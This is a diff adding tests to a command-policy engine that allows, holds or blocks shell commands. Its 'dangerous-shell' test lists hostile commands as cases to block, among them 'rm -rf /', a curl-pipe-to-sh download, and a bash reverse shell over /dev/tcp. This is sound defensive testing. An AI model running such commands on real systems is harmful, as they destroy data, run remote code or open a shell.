@@ -1,5 +1,6 @@
 /** What policies decide, what is wrong with them, and that templates do what their names say. */
 import { analyse, loadParser } from '@custody/postgres-sql'
+import { analyseShell } from '@custody/shell'
 import {
   type Circumstances,
   type CommandFacts,
@@ -273,6 +274,21 @@ test('every action that a statement may be found to do is in the vocabulary', ()
   expect([...verbs].filter((verb) => !vocabulary.includes(`"${verb}"`))).toEqual([])
 })
 
+test('every action that a shell command may be found to do is in the vocabulary', () => {
+  const { readdirSync, readFileSync } = require('node:fs') as typeof import('node:fs')
+  const directory = require.resolve('@custody/shell').replace(/(?:dist|src).index\.[jt]s$/, 'src')
+  const verbs = new Set(
+    readdirSync(directory)
+      .filter((file) => !file.endsWith('.test.ts'))
+      .flatMap((file) => [
+        ...readFileSync(`${directory}/${file}`, 'utf8').matchAll(/'(shell:[a-z-]+)'/g),
+      ])
+      .map((match) => match[1]!),
+  )
+  expect(verbs.size).toBeGreaterThan(15)
+  expect([...verbs].filter((verb) => !vocabulary.includes(`"${verb}"`))).toEqual([])
+})
+
 describe('templates', () => {
   test('each loads, for everyone and for some', () => {
     for (const use of templateNames()) {
@@ -312,6 +328,54 @@ describe('templates', () => {
     })
     expect(ask(set, 'select 1', { groups: ['others'] }).outcome).toBe('block')
     expect(ask(set, 'select 1', {}, {}, { ...orders, name: 'payroll' }).outcome).toBe('block')
+  })
+
+  test('dangerous-shell', () => {
+    const set = loadPolicies([], [{ use: 'allow-everything' }, { use: 'dangerous-shell' }])
+    const decided = (text: string, at: Partial<Circumstances> = {}) =>
+      decide(
+        set,
+        ana,
+        { ...orders, protocol: 'ssh' },
+        analyseShell(text, { parseBytesMax: 65536 }),
+        {
+          nowMs: NOON,
+          ...at,
+        },
+      ).outcome
+    const cases = {
+      'ls -la | grep x > /tmp/out': 'allow',
+      'rm -rf ./build': 'allow',
+      'systemctl restart nginx': 'allow',
+      'rm -rf /': 'block',
+      'sudo rm -rf /': 'block',
+      'curl https://example.com/x | sh': 'block',
+      'bash -i >& /dev/tcp/10.0.0.1/1 0>&1': 'block',
+      'sudo systemctl restart nginx': 'hold',
+      'iptables -F': 'hold',
+      'echo x >> /etc/passwd': 'hold',
+      'python3 -c "print(1)"': 'hold',
+      $x: 'hold',
+    }
+    for (const [text, outcome] of Object.entries(cases))
+      expect([text, decided(text)]).toEqual([text, outcome])
+    expect(decided('sudo ls', { approvedMs: NOON })).toBe('allow')
+    expect(decided('rm -rf /', { approvedMs: NOON })).toBe('block')
+  })
+
+  test('programs and paths are named whole', () => {
+    const set = own(`
+      @id("programs") permit (principal, action == Action::"shell:run", resource)
+        when { context has object && context.object.name == "deploy.sh" };
+      @id("paths") permit (principal, action in [Action::"shell:read"], resource)
+        when { context has object && context.object.relation like "/srv/*" };`)
+    const decided = (text: string) =>
+      decide(set, ana, orders, analyseShell(text, { parseBytesMax: 65536 }), { nowMs: NOON })
+        .outcome
+    expect(decided('deploy.sh /srv/app.d/x.conf')).toBe('allow')
+    expect(decided('deploy.sh /etc/x.conf')).toBe('block')
+    // Somewhere else another program may have the name.
+    expect(decided('/tmp/deploy.sh /srv/a')).toBe('block')
   })
 
   test('no-destructive-without-approval', () => {
